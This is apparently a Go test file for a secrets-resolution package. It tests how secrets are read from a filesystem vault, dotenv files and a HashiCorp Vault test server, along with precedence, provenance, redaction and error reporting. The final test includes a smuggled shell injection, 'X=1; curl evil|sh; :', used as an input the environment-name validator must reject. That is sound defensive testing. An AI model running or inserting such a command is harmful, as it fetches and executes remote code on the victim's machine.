package resolve_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/secretsctl/secretsctl/internal/plan"
	"github.com/secretsctl/secretsctl/internal/storetest"
	"github.com/secretsctl/secretsctl/internal/vaulttest"
	"github.com/secretsctl/secretsctl/resolve"
	"github.com/secretsctl/secretsctl/store"
)

// requiredLocal are the picker-wheel secrets required on tier-1-local and
// not stripped there.
var requiredLocal = []string{"n8n/N8N_ENCRYPTION_KEY", "picker-wheel/SESSION_SECRET", "postgres/POSTGRES_PASSWORD", "postgres/POSTGRES_USER"}

func getenv(vars map[string]string) func(string) string {
	return func(k string) string { return vars[k] }
}

func exampleSnapshot(t *testing.T) (*store.Store, *store.Snapshot) {
	t.Helper()
	st, err := store.Open(storetest.NewExample(t), store.Options{})
	require.NoError(t, err)
	sn, err := st.Snapshot(store.ReadOptions{})
	require.NoError(t, err)
	return st, sn
}

// localPlan is a scenario's plan on tier-1-local, as secretsctl computes it
// before it resolves the values.
func localPlan(t *testing.T, sn *store.Snapshot, scenario string) *store.Manifest {
	t.Helper()
	m, err := plan.ForSnapshot(sn, scenario, resolve.DefaultTier)
	require.NoError(t, err)
	return m
}

func writeFile(t *testing.T, path, data string) string {
	t.Helper()
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, []byte(data), 0o600))
	return path
}

func TestResolveFilesystemVaultByDefault(t *testing.T) {
	_, sn := exampleSnapshot(t)
	res, err := resolve.Resolve(context.Background(), sn, localPlan(t, sn, "picker-wheel"), resolve.Options{
		Getenv: getenv(map[string]string{"HOME": t.TempDir()}), ScenarioDir: t.TempDir()})
	require.NoError(t, err)
	assert.Equal(t, store.TierLocal, res.Tier)
	assert.Equal(t, sn.Revision, res.Revision)
	v, ok := res.Lookup("postgres/POSTGRES_PASSWORD")
	require.True(t, ok)
	assert.Equal(t, "demo-only-postgres-password", v.Value)
	assert.Equal(t, "POSTGRES_PASSWORD", v.Env)
	assert.True(t, v.Required)
	assert.Equal(t, store.Infrastructure, v.Classification)
	assert.Equal(t, resolve.Provenance{Kind: store.SourceFilesystem, Name: "filesystem", File: "vault/local.yaml", Revision: sn.Revision}, v.Source)
	assert.Len(t, res.Values, 12)
	require.Len(t, res.Missing, 1, "ollama/OLLAMA_API_BASE_URL is in no source")
	assert.Equal(t, "ollama/OLLAMA_API_BASE_URL", res.Missing[0].ID)
	assert.False(t, res.Missing[0].Required)
	environ, err := res.Environ()
	require.NoError(t, err)
	assert.Contains(t, environ, "POSTGRES_USER=picker")
}

func TestResolveDotenvAlone(t *testing.T) {
	_, sn := exampleSnapshot(t)
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "picker-wheel", ".env"), `# local values
export POSTGRES_USER=dev
POSTGRES_PASSWORD="p@ss ${POSTGRES_USER}"
N8N_EMAIL='me@example.com'
N8N_ENCRYPTION_KEY=enc
N8N_JWT_SECRET=jwt
N8N_PASSWORD="multi
line"
SESSION_SECRET=${SESSION_FROM_ENV:-fallback-session}
`)
	specs, err := store.NormalizeSources("test", "sources", []store.SourceSpec{{Kind: store.SourceDotenv, Path: "{scenario}/.env", RelativeTo: "scenario"}})
	require.NoError(t, err)
	res, err := resolve.Resolve(context.Background(), sn, localPlan(t, sn, "picker-wheel"), resolve.Options{Sources: specs, ScenarioDir: dir,
		Getenv: getenv(map[string]string{"SESSION_FROM_ENV": "session-from-env"})})
	require.NoError(t, err)
	env := filepath.Join(dir, "picker-wheel", ".env")
	for id, want := range map[string]struct {
		value string
		line  int
	}{
		"postgres/POSTGRES_USER":      {"dev", 2},
		"postgres/POSTGRES_PASSWORD":  {"p@ss dev", 3},
		"n8n/N8N_EMAIL":               {"me@example.com", 4},
		"n8n/N8N_PASSWORD":            {"multi\nline", 7},
		"picker-wheel/SESSION_SECRET": {"session-from-env", 9},
	} {
		v, ok := res.Lookup(id)
		require.True(t, ok, id)
		assert.Equal(t, want.value, v.Value, id)
		assert.Equal(t, resolve.Provenance{Kind: store.SourceDotenv, Name: "dotenv", File: env, Line: want.line, Variable: v.Env}, v.Source, id)
	}
}

func TestResolveMissingListsEverySecretAndWhere(t *testing.T) {
	_, sn := exampleSnapshot(t)
	dir := t.TempDir()
	specs, err := store.NormalizeSources("test", "sources", []store.SourceSpec{
		{Kind: store.SourceFilesystem, Scope: "empty"},
		{Kind: store.SourceDotenv, Path: filepath.Join(dir, ".env")},
	})
	require.NoError(t, err)
	writeFile(t, filepath.Join(dir, ".env"), "POSTGRES_USER=dev\n")
	_, err = resolve.Resolve(context.Background(), sn, localPlan(t, sn, "picker-wheel"), resolve.Options{Sources: specs})
	var me *resolve.MissingError
	require.True(t, errors.As(err, &me), "%v", err)
	assert.True(t, errors.Is(err, store.ErrNotFound))
	var ids []string
	for _, m := range me.Missing {
		ids = append(ids, m.ID)
		assert.Equal(t, []string{"vault/empty.yaml", filepath.Join(dir, ".env") + " (as " + m.Env + ")"}, m.LookedIn)
	}
	assert.Equal(t, without(requiredLocal, "postgres/POSTGRES_USER"), ids)
	assert.Contains(t, err.Error(), "3 required secrets are missing for picker-wheel on tier-1-local")

	res, err := resolve.Resolve(context.Background(), sn, localPlan(t, sn, "picker-wheel"), resolve.Options{Sources: specs, AllowMissing: true})
	require.NoError(t, err, "AllowMissing returns what was found")
	assert.Len(t, res.Values, 1)
	assert.Len(t, res.Missing, 12)
}

func without(s []string, drop string) []string {
	var out []string
	for _, x := range s {
		if x != drop {
			out = append(out, x)
		}
	}
	return out
}

func TestResolveRequiredDotenvFileMissingIsAnError(t *testing.T) {
	_, sn := exampleSnapshot(t)
	missing := filepath.Join(t.TempDir(), "nope.env")
	specs, err := store.NormalizeSources("test", "sources", []store.SourceSpec{{Kind: store.SourceDotenv, Path: missing}, {Kind: store.SourceFilesystem}})
	require.NoError(t, err)
	_, err = resolve.Resolve(context.Background(), sn, localPlan(t, sn, "picker-wheel"), resolve.Options{Sources: specs})
	var se *resolve.SourceError
	require.True(t, errors.As(err, &se), "%v", err)
	assert.Contains(t, err.Error(), missing)

	specs[0].Optional = true
	res, err := resolve.Resolve(context.Background(), sn, localPlan(t, sn, "picker-wheel"), resolve.Options{Sources: specs})
	require.NoError(t, err, "an optional source that cannot be read is skipped")
	require.Len(t, res.Skipped, 1)
	assert.Equal(t, "dotenv", res.Skipped[0].Source)
}

func TestResolveIDs(t *testing.T) {
	_, sn := exampleSnapshot(t)
	res, err := resolve.ResolveIDs(context.Background(), sn, []string{"postgres/POSTGRES_USER"}, resolve.Options{Getenv: getenv(nil)})
	require.NoError(t, err)
	require.Len(t, res.Values, 1)
	assert.Equal(t, "picker", res.Values[0].Value)
	_, err = resolve.ResolveIDs(context.Background(), sn, []string{"postgres:POSTGRES_USER"}, resolve.Options{Getenv: getenv(nil)})
	var ie *resolve.InvalidIDError
	assert.True(t, errors.As(err, &ie))
}

func TestUserSourcesOverrideTheStore(t *testing.T) {
	_, sn := exampleSnapshot(t)
	cfg := t.TempDir()
	envFile := writeFile(t, filepath.Join(t.TempDir(), "dev.env"), "POSTGRES_USER=from-user-config\n")
	writeFile(t, filepath.Join(cfg, "secretsctl", "sources.yaml"), fmt.Sprintf(`version: 1
sources:
  - kind: filesystem
stores:
  example:
    - kind: dotenv
      path: %s
    - kind: filesystem
`, envFile))
	env := getenv(map[string]string{"XDG_CONFIG_HOME": cfg})
	specs, from, err := resolve.LoadSources(sn, env)
	require.NoError(t, err)
	assert.Equal(t, filepath.Join(cfg, "secretsctl", "sources.yaml"), from)
	require.Len(t, specs, 2)
	res, err := resolve.Resolve(context.Background(), sn, localPlan(t, sn, "picker-wheel"), resolve.Options{Getenv: env})
	require.NoError(t, err)
	v, _ := res.Lookup("postgres/POSTGRES_USER")
	assert.Equal(t, "from-user-config", v.Value)
	assert.Equal(t, store.SourceDotenv, v.Source.Kind)
}

func TestValuesPrintRedacted(t *testing.T) {
	v := resolve.Value{ID: "a/B", Value: "canary-3f9a", Source: resolve.Provenance{Kind: store.SourceFilesystem, File: "vault/local.yaml"}}
	res := &resolve.Result{Values: []resolve.Value{v}}
	for _, s := range []string{fmt.Sprint(v), fmt.Sprintf("%v %+v %#v %s", v, v, v, v), fmt.Sprintf("%v %+v", res.Values, *res)} {
		assert.NotContains(t, s, "canary-3f9a")
	}
}

func vaultSources(t *testing.T, addr string, kinds ...store.SourceKind) []store.SourceSpec {
	t.Helper()
	var in []store.SourceSpec
	for _, k := range kinds {
		s := store.SourceSpec{Kind: k}
		switch k {
		case store.SourceHashiCorpVault:
			s.Address = addr
		case store.SourceDotenv:
			s.Path = ".env"
		}
		in = append(in, s)
	}
	out, err := store.NormalizeSources("test", "sources", in)
	require.NoError(t, err)
	return out
}

// The same id in all three sources resolves by the configured order, with
// the provenance of the source that won.
func TestPrecedenceAcrossAllThreeSources(t *testing.T) {
	srv := vaulttest.Start(t)
	_, sn := exampleSnapshot(t)
	writeFile(t, filepath.Join(sn.StoreDir(), ".env"), "# dev\nPOSTGRES_PASSWORD=from-dotenv\n")
	srv.Put(t, "postgres/POSTGRES_PASSWORD", map[string]any{"value": "from-vault-v1"})
	version := srv.Put(t, "postgres/POSTGRES_PASSWORD", map[string]any{"value": "from-vault"})
	require.Equal(t, 2, version)
	env := getenv(map[string]string{"VAULT_TOKEN": vaulttest.RootToken})
	fs, de, hv := store.SourceFilesystem, store.SourceDotenv, store.SourceHashiCorpVault
	tests := []struct {
		order []store.SourceKind
		value string
		prov  resolve.Provenance
	}{
		{[]store.SourceKind{fs, de, hv}, "demo-only-postgres-password", resolve.Provenance{Kind: fs, Name: "filesystem", File: "vault/local.yaml", Revision: sn.Revision}},
		{[]store.SourceKind{de, hv, fs}, "from-dotenv", resolve.Provenance{Kind: de, Name: "dotenv", File: filepath.Join(sn.StoreDir(), ".env"), Line: 2, Variable: "POSTGRES_PASSWORD"}},
		{[]store.SourceKind{hv, fs, de}, "from-vault", resolve.Provenance{Kind: hv, Name: "hashicorp-vault", Address: srv.Addr, Path: "secret/data/postgres/POSTGRES_PASSWORD", Field: "value", Version: 2}},
		{[]store.SourceKind{hv}, "from-vault", resolve.Provenance{Kind: hv, Name: "hashicorp-vault", Address: srv.Addr, Path: "secret/data/postgres/POSTGRES_PASSWORD", Field: "value", Version: 2}},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprint(tt.order), func(t *testing.T) {
			res, err := resolve.ResolveIDs(context.Background(), sn, []string{"postgres/POSTGRES_PASSWORD"},
				resolve.Options{Sources: vaultSources(t, srv.Addr, tt.order...), Getenv: env})
			require.NoError(t, err)
			require.Len(t, res.Values, 1)
			assert.Equal(t, tt.value, res.Values[0].Value)
			assert.Equal(t, tt.prov, res.Values[0].Source)
		})
	}
}

func TestVaultAloneForAScenario(t *testing.T) {
	srv := vaulttest.Start(t)
	_, sn := exampleSnapshot(t)
	for _, id := range requiredLocal {
		owner, key, _ := strings.Cut(id, "/")
		srv.Put(t, owner+"/"+key, map[string]any{"value": "vault-" + key})
	}
	res, err := resolve.Resolve(context.Background(), sn, localPlan(t, sn, "picker-wheel"), resolve.Options{
		Sources: vaultSources(t, srv.Addr, store.SourceHashiCorpVault), Getenv: getenv(map[string]string{"VAULT_TOKEN": vaulttest.RootToken})})
	require.NoError(t, err)
	assert.Len(t, res.Values, len(requiredLocal))
	v, _ := res.Lookup("picker-wheel/SESSION_SECRET")
	assert.Equal(t, "vault-SESSION_SECRET", v.Value)
	assert.Equal(t, "secret/data/picker-wheel/SESSION_SECRET", v.Source.Path)
	assert.Equal(t, 1, v.Source.Version)
}

func TestVaultDownOrForbiddenIsAnErrorNamingAddressAndPath(t *testing.T) {
	srv := vaulttest.Start(t)
	_, sn := exampleSnapshot(t)
	srv.Put(t, "postgres/POSTGRES_PASSWORD", map[string]any{"value": "canary-vault-7c1"})
	ids := []string{"postgres/POSTGRES_PASSWORD"}
	readerOfOther := srv.Token(t, "other/*")

	// Forbidden: the token may not read the path.
	specs := vaultSources(t, srv.Addr, store.SourceHashiCorpVault, store.SourceFilesystem)
	_, err := resolve.ResolveIDs(context.Background(), sn, ids, resolve.Options{Sources: specs, Getenv: getenv(map[string]string{"VAULT_TOKEN": readerOfOther})})
	var se *resolve.SourceError
	require.True(t, errors.As(err, &se), "%v", err)
	assert.Contains(t, err.Error(), "VAULT_ADDR="+srv.Addr)
	assert.Contains(t, err.Error(), "secret/data/postgres/POSTGRES_PASSWORD")
	assert.Contains(t, err.Error(), "permission denied")
	assert.NotContains(t, err.Error(), "canary-vault-7c1")

	// Down: nothing listens there; no fallback to the filesystem vault.
	down := "http://127.0.0.1:" + fmt.Sprint(freePort(t))
	specs = vaultSources(t, down, store.SourceHashiCorpVault, store.SourceFilesystem)
	_, err = resolve.ResolveIDs(context.Background(), sn, ids, resolve.Options{Sources: specs, Getenv: getenv(map[string]string{"VAULT_TOKEN": "x"})})
	require.True(t, errors.As(err, &se), "%v", err)
	assert.Contains(t, err.Error(), "VAULT_ADDR="+down)
	assert.Contains(t, err.Error(), "unreachable")

	// Optional: the next source answers and the skip is reported.
	specs[0].Optional = true
	res, err := resolve.ResolveIDs(context.Background(), sn, ids, resolve.Options{Sources: specs, Getenv: getenv(map[string]string{"VAULT_TOKEN": "x"})})
	require.NoError(t, err)
	assert.Equal(t, store.SourceFilesystem, res.Values[0].Source.Kind)
	require.Len(t, res.Skipped, 1)
	assert.Contains(t, res.Skipped[0].Reason, down)

	// No token at all.
	_, err = resolve.ResolveIDs(context.Background(), sn, ids, resolve.Options{Sources: vaultSources(t, srv.Addr, store.SourceHashiCorpVault), Getenv: getenv(map[string]string{"HOME": t.TempDir()})})
	assert.ErrorContains(t, err, "no token: set VAULT_TOKEN")
}

func TestCheckReportsUnreachableSources(t *testing.T) {
	srv := vaulttest.Start(t)
	_, sn := exampleSnapshot(t)
	down := "http://127.0.0.1:" + fmt.Sprint(freePort(t))
	specs, err := store.NormalizeSources("test", "sources", []store.SourceSpec{
		{Kind: store.SourceFilesystem},
		{Name: "up", Kind: store.SourceHashiCorpVault, Address: srv.Addr},
		{Name: "down", Kind: store.SourceHashiCorpVault, Address: down, Optional: true},
		{Kind: store.SourceDotenv, Path: "missing.env"},
	})
	require.NoError(t, err)
	st, _, err := resolve.Check(context.Background(), sn, "", true, resolve.Options{Sources: specs, Getenv: getenv(map[string]string{"VAULT_TOKEN": vaulttest.RootToken})})
	require.NoError(t, err)
	require.Len(t, st, 4)
	assert.Empty(t, st[0].Error)
	assert.Empty(t, st[1].Error)
	assert.Contains(t, st[2].Error, "VAULT_ADDR="+down)
	assert.Contains(t, st[3].Error, "missing.env")
}

func freePort(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

func TestSourcesFromSecretsctlYAML(t *testing.T) {
	st, sn := exampleSnapshot(t)
	cfg := *sn.Config()
	cfg.Sources = []store.SourceSpec{{Kind: store.SourceDotenv, Path: "dev.env"}, {Kind: store.SourceFilesystem}}
	_, _, err := st.Commit(context.Background(), store.Change{Documents: map[string]any{store.ConfigFile: &cfg},
		Message: store.Message{Subject: "sources", Action: "test"}})
	require.NoError(t, err)
	writeFile(t, filepath.Join(st.Dir(), "dev.env"), "POSTGRES_USER=from-store-config\n")
	sn, err = st.Snapshot(store.ReadOptions{})
	require.NoError(t, err)
	specs, from, err := resolve.LoadSources(sn, getenv(map[string]string{"HOME": t.TempDir()}))
	require.NoError(t, err)
	assert.Equal(t, store.ConfigFile, from)
	assert.Equal(t, "store", specs[0].RelativeTo)
	res, err := resolve.Resolve(context.Background(), sn, localPlan(t, sn, "picker-wheel"), resolve.Options{Getenv: getenv(map[string]string{"HOME": t.TempDir()})})
	require.NoError(t, err)
	v, _ := res.Lookup("postgres/POSTGRES_USER")
	assert.Equal(t, "from-store-config", v.Value)
	assert.Equal(t, 1, v.Source.Line)
}

func TestVaultTokenFileAndPathTemplate(t *testing.T) {
	srv := vaulttest.Start(t)
	_, sn := exampleSnapshot(t)
	srv.Put(t, "apps/postgres", map[string]any{"POSTGRES_USER": "from-template"})
	tokenFile := writeFile(t, filepath.Join(t.TempDir(), "token"), vaulttest.RootToken+"\n")
	specs, err := store.NormalizeSources("test", "sources", []store.SourceSpec{{Kind: store.SourceHashiCorpVault, Address: srv.Addr,
		TokenFile: tokenFile, Path: "secret/data/apps/{resource}", Field: "{key}"}})
	require.NoError(t, err)
	res, err := resolve.ResolveIDs(context.Background(), sn, []string{"postgres/POSTGRES_USER"}, resolve.Options{Sources: specs, Getenv: getenv(nil)})
	require.NoError(t, err)
	require.Len(t, res.Values, 1)
	assert.Equal(t, "from-template", res.Values[0].Value)
	assert.Equal(t, "secret/data/apps/postgres", res.Values[0].Source.Path)
	assert.Equal(t, "POSTGRES_USER", res.Values[0].Source.Field)

	// An explicit token file that is missing is an error naming the source, not a fallback.
	specs[0].TokenFile = filepath.Join(t.TempDir(), "nope")
	_, err = resolve.ResolveIDs(context.Background(), sn, []string{"postgres/POSTGRES_USER"}, resolve.Options{Sources: specs, Getenv: getenv(nil)})
	assert.ErrorContains(t, err, "read token file")
}

// TestEnvironRefusesNamesThatAreNotVariables: a key such as "A-B" or a name
// carrying "=" or shell syntax never reaches a child's environment or an
// eval'd shell line.
func TestEnvironRefusesNamesThatAreNotVariables(t *testing.T) {
	for _, name := range []string{"A-B", "X=1", "X=1; curl evil|sh; :", "1ABC", "", "A.B"} {
		res := &resolve.Result{Values: []resolve.Value{{ID: "db/KEY", Env: name, Value: "v"}}}
		_, err := res.Environ()
		require.Error(t, err, "%q", name)
		assert.Contains(t, err.Error(), "not a valid environment variable name")
	}
	res := &resolve.Result{Values: []resolve.Value{{ID: "db/KEY", Env: "DB_KEY_2", Value: "v"}}}
	env, err := res.Environ()
	require.NoError(t, err)
	assert.Equal(t, []string{"DB_KEY_2=v"}, env)
}
